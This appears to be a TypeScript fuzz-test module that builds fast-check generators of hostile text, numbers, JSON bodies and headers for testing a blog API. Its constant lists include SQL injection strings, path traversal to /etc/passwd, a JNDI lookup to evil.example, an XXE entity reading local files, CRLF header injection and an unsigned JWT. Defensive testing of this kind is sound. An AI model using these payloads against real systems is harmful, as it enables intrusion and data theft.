import fc, { type Arbitrary } from "fast-check";
import { xssPayloads } from "../../corpus/xss-payloads.ts";

const oddTexts: readonly string[] = [
  "",
  " ",
  "\u0000",
  "\u0000'--",
  "'; DROP TABLE blog_posts; --",
  "%' OR '1'='1",
  "%_\\",
  "\ud800",
  "\udfff\ud800",
  "\uffff\ufffe",
  "\u202e\u2066",
  "null",
  "undefined",
  "NaN",
  "-1",
  "0x10",
  "1e999",
  "99999999999999999999",
  "__proto__",
  "constructor",
  "toString",
  "../../../etc/passwd",
  "..%2f..%2f",
  "%00",
  "%c0%ae%c0%ae/",
  "%",
  "//evil.example",
  "file:///etc/passwd",
  "a\r\nSet-Cookie: x=y",
  "${jndi:ldap://evil.example/x}",
  "0199a000-0000-7000-8000-000000000000",
  "0199A000-0000-7000-8000-000000000000",
  "a.b.c",
  "eyJhbGciOiJub25lIn0.e30.",
  "x".repeat(9_000),
  "शुल्क".repeat(1_000),
  "> ".repeat(5_000),
  "[".repeat(5_000),
  "*a".repeat(2_000),
  "🙂".repeat(500),
  "\u0301".repeat(2_000),
];

/** Text that a person would hardly type. */
export const hostileText: Arbitrary<string> = fc.oneof(
  fc.constantFrom(...oddTexts),
  fc.constantFrom(...xssPayloads),
  fc.string({ unit: "binary", maxLength: 60 }),
  fc.string({ unit: "grapheme", maxLength: 60 }),
  fc.webUrl(),
  fc.emailAddress(),
  fc.base64String({ maxLength: 120 }),
);

export const hostileNumber: Arbitrary<number> = fc.oneof(
  fc.constantFrom(0, -0, -1, 1, 2, 2 ** 31 - 1, 2 ** 31, 2 ** 32, 2 ** 53 - 1, 2 ** 53, 1e308),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

function nested(depth: number): unknown {
  let value: unknown = "x";
  for (let level = 0; level < depth; level++) value = level % 2 === 0 ? [value] : { a: value };
  return value;
}

/** What stands in JSON where something else is expected. */
export const hostileValue: Arbitrary<unknown> = fc.oneof(
  hostileText,
  hostileNumber,
  fc.constantFrom<unknown>(null, true, false, [], {}, [[]], [null], { length: -1 }, nested(900)),
  fc.array(hostileText, { maxLength: 40 }),
  fc.jsonValue({ maxDepth: 4 }),
);

/** A body that is no JSON object, or none that is written as usual. */
export const hostileBody: Arbitrary<string | Uint8Array<ArrayBuffer>> = fc.oneof(
  fc.constantFrom(
    "",
    "null",
    "[]",
    '"x"',
    "{",
    '{"postId"',
    "\ufeff{}",
    "{'postId': 1}",
    '{"postId":"a","postId":"b"}',
    '{"__proto__":{"postId":"x"},"constructor":{"prototype":{}}}',
    '{"token":1e999}',
    "[".repeat(60_000),
    '{"a":'.repeat(10_000),
    "postId=x&token=y",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
  ),
  fc.constant(`{"prompt":"${"x".repeat(70_000)}"}`),
  fc.uint8Array({ maxLength: 80 }).map((bytes) => Uint8Array.from(bytes)),
  fc.json({ maxDepth: 3 }),
  hostileText,
);

/** Values of headers that a client library lets through. */
export const hostileHeader: Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    "",
    "Bearer",
    "Bearer  ",
    "Bearer null",
    "Bearer a.b.c",
    "Basic YTpi",
    "bearer eyJhbGciOiJub25lIn0.e30.",
    `Bearer ${"x".repeat(4_000)}`,
    "text/event-stream",
    "text/html;q=0.9,*/*;q=nonsense",
    ",,,;;;q=,",
    "application/json; charset=utf-16",
    "multipart/form-data; boundary=",
    "gzip, deflate, br;q=9",
    "127.0.0.1, ::1, evil",
  ),
  fc.string({ unit: "binary-ascii", maxLength: 60 }).map((text) => text.replace(/[^ -~]/g, "")),
);
